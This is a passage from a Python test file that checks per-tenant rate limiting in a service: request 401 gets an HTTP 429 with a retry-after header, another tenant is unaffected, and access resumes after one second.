    assert int(refused["headers"]["retry-after"]) > 0
    assert stack.connect("bob", signed(tenant="globex")) == 200


def test_a_flood_of_requests_is_told_429_and_when_to_come_again(stack: Stack) -> None:
    answers = [stack.hits(signed()) for _ in range(401)]

    assert [answer["statusCode"] for answer in answers] == [200] * 400 + [429]
    assert (code(answers[-1]), answers[-1]["headers"]["retry-after"]) == ("too-many-requests", "1")
    assert stack.hits(signed(tenant="globex"))["statusCode"] == 200
    stack.clock.sleep(1)
    assert stack.hits(signed())["statusCode"] == 200
